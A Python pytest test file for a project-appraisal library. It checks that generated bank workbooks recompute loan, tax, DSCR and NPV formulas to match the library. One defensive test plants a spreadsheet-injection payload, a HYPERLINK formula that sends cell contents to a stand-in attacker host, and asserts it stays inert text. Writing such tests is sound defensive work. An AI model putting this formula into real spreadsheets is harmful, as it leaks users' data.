"""The bank workbook: live formulas recomputed by an independent engine match the library.

A real spreadsheet engine recomputes every formula cell of the written .xlsx, with the inputs as
written and after a credit officer's changes typed into the input cells (loan rate 5%, tenor 8,
inflation 2%...): LibreOffice headless where it is installed (Debian: ``apt-get install
libreoffice-calc-nogui``), else the ``formulas`` package (a Python Excel formula engine,
independent of openpyxl and of this package); ``EIP_SPREADSHEET_ENGINE=formulas`` forces the
latter. Every yearly loan, tax, after-tax, equity and DSCR cell and every summary metric must
equal the library run with the same overrides to 1e-6.
"""

from __future__ import annotations

import math
import os
import shutil
import subprocess
from pathlib import Path

import formulas
import openpyxl
import pytest

from eip_analysis import appraise, load_case
from eip_analysis.cases import load_case as load
from eip_analysis.cli import main
from eip_analysis.financing import appraise_financing
from eip_analysis.workbook import INPUTS, build_workbook, input_cell, write_workbook

from .conftest import MINI

YRS = {"unit": "yr", "source": "assumption: fixture"}


def _model(path: Path):
    return formulas.ExcelModel().loads(str(path)).finish()


def _recompute(path: Path, inputs: dict[str, object] | None = None, *,
               model=None) -> dict[str, object]:
    """Every cell of the workbook recomputed by ``formulas``: ``{"SUMMARY!B12": value}``;
    ``inputs``: ``{"Summary!B8": 0.05}`` typed into the input cells first."""
    model = model or _model(path)
    prefix = f"'[{path.name}]"
    solution = model.calculate(inputs={f"{prefix}{k.split('!')[0].upper()}'!{k.split('!')[1]}": v
                                       for k, v in (inputs or {}).items()})
    out = {}
    for key, value in solution.items():
        if hasattr(value, "value"):
            out[key.split("]")[-1].replace("'", "").upper()] = value.value[0][0]
    return out


def _check(path: Path, expected: dict[str, float], inputs: dict[str, object] | None = None, *,
           model=None) -> dict[str, object]:
    got = _recompute(path, inputs, model=model)
    assert expected, "no live formula to check"
    _compare(got, expected)
    return got


def _soffice() -> str | None:
    if os.environ.get("EIP_SPREADSHEET_ENGINE", "").lower() == "formulas":
        return None
    return shutil.which("soffice") or shutil.which("libreoffice")


def _recalculate(jobs: list[tuple[Path, dict[str, object]]], work: Path) -> list[dict]:
    """Each ``(workbook, inputs)`` recomputed: LibreOffice converts copies with the inputs typed
    in (one run for all), else ``formulas`` recomputes each workbook once per set of inputs."""
    soffice = _soffice()
    if soffice is None:
        models: dict[Path, object] = {}
        return [_recompute(path, inputs, model=models.setdefault(path, _model(path)))
                for path, inputs in jobs]
    typed, out = work / "typed", work / "recalculated"
    typed.mkdir()
    names = []
    for i, (path, inputs) in enumerate(jobs):
        wb = openpyxl.load_workbook(path)
        for ref, value in inputs.items():
            sheet, cell = ref.split("!")
            wb[sheet][cell] = value
        names.append(f"{i:03d}-{path.name}")
        wb.save(typed / names[-1])
    subprocess.run([soffice, f"-env:UserInstallation=file://{work / 'profile'}", "--headless",
                    "--calc", "--convert-to", "xlsx", "--outdir", str(out),
                    *sorted(str(p) for p in typed.iterdir())],
                   check=True, capture_output=True, timeout=600)
    results = []
    for name in names:
        wb = openpyxl.load_workbook(out / name, data_only=True)
        results.append({f"{ws.title}!{c.coordinate}".upper(): c.value
                        for ws in wb.worksheets for row in ws.iter_rows() for c in row})
    return results


def _compare(got: dict, expected: dict[str, float]) -> None:
    wrong = [f"{cell}: {got.get(cell.upper())!r} != {library!r}"
             for cell, library in expected.items()
             if not isinstance(got.get(cell.upper()), float | int)
             or got[cell.upper()] != pytest.approx(library, rel=1e-9, abs=1e-6)]
    assert not wrong, f"{len(wrong)} of {len(expected)} cells: " + "; ".join(wrong[:5])


#: The credit officer's changes of the issue, then every other input at once.
CHANGES = (
    {"loan_interest_rate": 0.05, "loan_tenor_years": 8, "inflation_rate": 0.02},
    {"discount_rate": 0.08, "debt_share": 0.7, "loan_grace_years": 2,
     "loan_repayment": "annuity", "loan_upfront_fee": 0.01, "target_min_dscr": 1.3,
     "tax_rate": 0.15, "depreciation_years": 7, "loss_carryforward_years": 3},
)


@pytest.fixture
def mini():
    return load_case(MINI)


class TestLiveFormulas:
    def test_mini_summary_formulas_match_the_library(self, mini, tmp_path):
        path = write_workbook(mini, tmp_path / "MINI-01.xlsx")
        _, expected = build_workbook(mini)
        _check(path, expected)
        a, fa = appraise(mini), appraise_financing(mini)
        library = set(expected.values())
        for v in (a.npv_usd, a.irr, a.supplier_npv_usd, fa.equity_npv_usd, fa.equity_irr,
                  fa.min_dscr, fa.average_dscr, fa.project_npv_after_tax_usd):
            assert v in library
        assert sum(k.startswith("Summary!") for k in expected) == 12

    def test_formulas_are_formulas(self, mini, tmp_path):
        path = write_workbook(mini, tmp_path)
        ws = openpyxl.load_workbook(path)["Summary"]
        column = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2).value
                  for r in range(1, ws.max_row + 1)}
        npv = column["Project NPV (before financing and tax, real)"]
        assert npv.startswith("=NPV(Summary!$B$5,'Cash flows'!") and npv.endswith("+'Cash flows'!G3")
        assert column["Project IRR (real)"].startswith("=IRR(")
        assert "MIN('Financing'!" in column["Minimum DSCR"]
        loan = openpyxl.load_workbook(path)["Loan"]
        heads = [c.value for c in loan[1]]
        principal = loan.cell(row=5, column=heads.index("Principal") + 1).value
        assert principal.startswith("=IF(") and "annuity" in principal  # a formula, not a value
        notes = " ".join(str(ws.cell(row=r, column=1).value) for r in range(1, ws.max_row + 1))
        assert "Year-0 convention" in notes and "Excel's NPV" in notes

    def test_a_changed_input_cell_flows_through(self, mini, tmp_path):
        path = write_workbook(mini, tmp_path)
        got = _recompute(path, {input_cell("discount_rate"): 0.08})
        _, expected = build_workbook(mini)
        npv_cell = next(k for k in expected if k.startswith("Summary!"))  # the project NPV
        assert got[npv_cell.upper()] == pytest.approx(
            appraise(mini, discount_rate=0.08).npv_usd, rel=1e-9)

    def test_construction_years_capitalised_interest_and_incentive(self, write_case,
                                                                   mini_data, tmp_path):
        # Capex over years 0 and 1, operation from year 2, VEPF-style annuity loan and a CIT
        # incentive: the loan, tax and DSCR formulas still reproduce the library.
        mini_data["operation_start_year"] = 2
        mini_data["capex"].append({"name": "boiler_feed", "description": "Feed system",
                                   "party": "receiver", "year": 1,
                                   "amount": {"value": 20_000, "unit": "USD",
                                              "source": "assumption: fixture"}})
        mini_data["financing"] = {
            "lender": "Viet Nam Environment Protection Fund", "repayment": "annuity",
            "debt_share": {"value": 0.7, "unit": "fraction", "source": "VEPF up to 70%"},
            "interest_rate": {"value": 0.036, "unit": "1/yr", "source": "VEPF 3.6%/yr"},
            "tenor_years": {"value": 8, **YRS}, "grace_years": {"value": 2, **YRS}}
        mini_data["tax"] = {"incentive": {
            "basis": "Law on CIT arts. 13-14 (fixture)",
            "preferential_rate": {"value": 0.10, "unit": "fraction", "source": "CIT art. 13"},
            "exempt_years": {"value": 4, **YRS}, "reduced_years": {"value": 9, **YRS},
            "reduction": {"value": 0.5, "unit": "fraction", "source": "CIT art. 14"}}}
        case = load(write_case(mini_data))
        fa = appraise_financing(case)
        assert fa.table["capitalised_interest_usd"].sum() > 0
        path = write_workbook(case, tmp_path)
        _, expected = build_workbook(case)
        got = _check(path, expected)
        ws = openpyxl.load_workbook(path)["Loan"]
        heads = [c.value for c in ws[1]]
        closing = heads.index("Closing balance")
        last = fa.table["year"].iloc[-1]
        assert got[f"LOAN!{openpyxl.utils.get_column_letter(closing + 1)}{3 + last}"] == \
            pytest.approx(0, abs=1e-6)

    # Every project case, with the inputs as written and after the changes of CHANGES typed into
    # the workbook (a repaid loan's 1e-12 residue once blew DSCR cells up to ~1e16).
    def test_every_case_with_changed_inputs(self, tmp_path):
        jobs, expectations = [], []
        for case_id in [f"HK-0{i}" for i in range(1, 7)] + [f"TN-0{i}" for i in range(1, 7)]:
            case = load_case(case_id)
            path = write_workbook(case, tmp_path / "written")
            for change in ({}, *CHANGES):
                _, expected = build_workbook(case, **change)
                assert len(expected) > 250  # the yearly loan, tax and equity cells too
                jobs.append((path, {input_cell(k): v for k, v in change.items()}))
                expectations.append((case_id, change, expected))
        for got, (case_id, change, expected) in zip(_recalculate(jobs, tmp_path), expectations,
                                                    strict=True):
            try:
                _compare(got, expected)
            except AssertionError as e:
                raise AssertionError(f"{case_id} with {change or 'the inputs as written'}: "
                                     f"{e}") from None

    def test_the_credit_officers_loan_rate(self, tmp_path):
        # The issue's example: a credit officer types a 5% loan rate into TN-05's workbook; the
        # minimum DSCR it shows is the library's at 5%, not the one of the rate as written.
        case = load_case("TN-05")
        path = write_workbook(case, tmp_path / "written")
        _, expected = build_workbook(case, loan_interest_rate=0.05)
        (got,) = _recalculate([(path, {input_cell("loan_interest_rate"): 0.05})], tmp_path)
        _compare(got, expected)
        min_dscr = next(k for k, v in expected.items()
                        if k.startswith("Summary!") and v == appraise_financing(
                            case, loan_interest_rate=0.05).min_dscr)
        assert got[min_dscr.upper()] != pytest.approx(appraise_financing(case).min_dscr,
                                                      rel=1e-3)

    def test_incentive_inputs_are_live(self, tmp_path):
        # TN-05 has the CIT incentive (10% for 15 years, 4 exempt, 9 at 50% off): shorten and
        # deepen it in the workbook; the library run with the same values agrees cell by cell.
        case = load_case("TN-05")
        path = write_workbook(case, tmp_path)
        values = {"tax.incentive.exempt_years": 2.0, "tax.incentive.reduced_years": 4.0,
                  "tax.incentive.reduction": 0.3, "tax.incentive.preferential_rate": 0.15,
                  "tax.incentive.preferential_years": 10.0}
        a = appraise(case)
        _, expected = build_workbook(a, financing=appraise_financing(a, values=values))
        got = _check(path, expected, {input_cell(k.replace("tax.", "")): v
                                      for k, v in values.items()})
        rates = [got[k.upper()] for k in expected if k.startswith("Tax!") and
                 expected[k] in (0.0, 0.105, 0.15)]
        assert {0.0, 0.105, 0.15} <= set(rates)

    def test_inputs_are_unlocked_and_everything_else_locked(self, mini, tmp_path):
        wb = openpyxl.load_workbook(write_workbook(mini, tmp_path))
        assert all(ws.protection.sheet for ws in wb.worksheets)
        assert wb.worksheets[0].protection.password is None
        unlocked = [(ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows()
                    for c in row if not c.protection.locked]
        assert unlocked == [("Summary", input_cell(name).split("!")[1])
                            for name, *_ in INPUTS]
        summary = wb["Summary"]
        for name, *_ in INPUTS:
            cell = summary[input_cell(name).split("!")[1]]
            assert cell.fill.fgColor.rgb.endswith("FFF2CC")
        validations = summary.data_validations.dataValidation
        assert [str(v.sqref) for v in validations] == [input_cell("loan_repayment")[8:]]


class TestContents:
    def test_assumptions_list_every_input_with_its_source(self, mini, tmp_path):
        ws = openpyxl.load_workbook(write_workbook(mini, tmp_path))["Assumptions"]
        rows = {r[1]: r for r in ws.iter_rows(min_row=2, values_only=True)}
        for path, q, _ in mini.quantities():
            assert rows[path][2] == q.value and rows[path][7] == q.source
        for name in ("discount_rate", "inflation_rate", "loan_interest_rate", "tax_rate"):
            assert len(rows[f"parameters.{name}"][7]) > 10

    def test_run_overrides_of_an_appraisal_are_kept(self, mini, tmp_path):
        path = write_workbook(appraise(mini, discount_rate=0.08), tmp_path)
        ws = openpyxl.load_workbook(path)["Summary"]
        assert ws[input_cell("discount_rate")[8:]].value == 0.08

    def test_no_debt_says_so_and_a_loan_typed_in_is_live(self, mini, tmp_path):
        path = write_workbook(mini, tmp_path, debt_share=0.0)
        got = _recompute(path)
        assert list(got.values()).count("no debt") == 3  # min, average DSCR and the covenant
        _, expected = build_workbook(mini, debt_share=0.0)
        assert all(not math.isnan(v) for v in expected.values())
        _, with_debt = build_workbook(mini, debt_share=0.6)
        _check(path, with_debt, {input_cell("debt_share"): 0.6})


class TestCommand:
    def test_writes_one_file_per_case_atomically(self, tmp_path, capsys):
        out = tmp_path / "wb"
        assert main(["workbook", "MINI-01", "--cases", str(MINI.parent),
                     "--output", str(out)]) == 0
        assert [p.name for p in out.iterdir()] == ["MINI-01.xlsx"]  # no temporary file left
        assert "wrote" in capsys.readouterr().out

    def test_unknown_case_is_one_line(self, tmp_path, capsys):
        assert main(["workbook", "NOPE-01", "--cases", str(MINI.parent),
                     "--output", str(tmp_path)]) == 1
        err = capsys.readouterr().err.strip()
        assert "\n" not in err and "MINI-01" in err


def _every_text_field(data, text, path):
    """Set every text field of a case's data that accepts free text to ``text`` (a field whose
    validation refuses it, an id or a category, keeps its value); writes the case to ``path``."""
    import yaml

    from eip_analysis.errors import InputError

    from .conftest import each_mapping

    fields = []
    each_mapping(data, lambda d: fields.extend((d, k) for k, v in d.items()
                                               if isinstance(v, str)))
    for d, k in fields:
        old = d[k]
        d[k] = text + (" (source)" if k == "source" else "")
        path.write_text(yaml.safe_dump(data, sort_keys=False))
        try:
            load_case(path)
        except InputError:
            d[k] = old
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return sum(1 for d, k in fields if str(d[k]).startswith(text))


def test_case_text_never_becomes_a_formula(tmp_path):
    """OWASP CSV injection: case text that starts with = + - @ is text in every cell."""
    import copy

    import yaml

    data = yaml.safe_load(MINI.read_text())
    attack = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
    crafted = copy.deepcopy(data)
    path = tmp_path / "MINI-01.yaml"
    assert _every_text_field(crafted, attack, path) >= 10
    wb, _ = build_workbook(appraise(load_case(path)))
    written_as_text = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert "HYPERLINK" not in str(cell.value), (ws.title, cell.coordinate)
                elif isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                    written_as_text += 1
    assert written_as_text >= 5  # the text is there, as text
    out = tmp_path / "book.xlsx"
    wb.save(out)
    again = openpyxl.load_workbook(out)
    assert not [c for ws in again.worksheets for r in ws.iter_rows() for c in r
                if c.data_type == "f" and "HYPERLINK" in str(c.value)]
